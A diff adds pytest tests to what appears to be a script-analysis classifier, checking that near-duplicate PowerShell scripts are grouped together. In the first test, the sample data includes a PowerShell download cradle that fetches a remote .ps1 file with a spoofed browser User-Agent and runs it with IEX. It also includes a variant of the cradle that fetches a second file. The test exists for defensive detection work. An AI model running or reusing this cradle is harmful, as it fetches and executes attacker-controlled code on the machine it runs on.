@@ -117,3 +117,36 @@ def test_choose_threshold_keeps_inner_false_positives_at_the_target() -> None:
     t = choose_threshold(texts, y, chars=False, target_fpr=0.0)
     assert 0.05 <= t <= 0.95
     assert choose_threshold(texts[:6], np.array(labels[:6]), chars=False) == 0.5  # too small to split
+
+
+def test_near_duplicate_groups_join_near_copies_and_keep_unrelated_scripts_apart() -> None:
+    from phagocyte.analysers.classifier import near_duplicate_groups
+
+    tool = "\n".join(f"function Invoke-Step{i} {{ param([string]$T{i}) Get-Item $T{i} | Out-File log{i}.txt }}"
+                     for i in range(40))
+    banner = "# copied with a new banner\n" + tool.replace("log39.txt", "out39.txt")  # a near-copy, other bytes
+    other = ("$c = New-Object Net.WebClient; $c.Headers.Add('User-Agent', 'Mozilla/5.0'); $c.Proxy = "
+             "[Net.WebRequest]::DefaultWebProxy; IEX $c.DownloadString('http://198.51.100.7/a.ps1')")
+    chain_a = other.replace("a.ps1", "b.ps1")
+    texts = [tool, other, banner, "", "", chain_a, "Get-Process | Sort-Object CPU"]
+    g = near_duplicate_groups(texts)
+    assert len(g) == len(texts)
+    assert g[0] == g[2]  # the copy with a changed banner and one changed name
+    assert g[1] == g[5]  # the same cradle fetching another file
+    assert g[3] == g[4]  # texts with no words: joined by their normalised text
+    assert len({g[0], g[1], g[3], g[6]}) == 4
+    assert near_duplicate_groups([]) == []
+    # a stricter threshold separates what the default joins
+    strict = near_duplicate_groups(texts, threshold=0.999)
+    assert strict[1] != strict[5]
+
+
+def test_near_duplicate_groups_work_block_by_block() -> None:
+    from phagocyte.analysers.classifier import near_duplicate_groups
+
+    texts, _ = _toy(30, 5)
+    copies = texts + [t + " " for t in texts]  # each text again, with trailing whitespace
+    whole = near_duplicate_groups(copies)
+    blocks = near_duplicate_groups(copies, block=7)
+    assert whole == blocks
+    assert all(whole[i] == whole[i + len(texts)] for i in range(len(texts)))
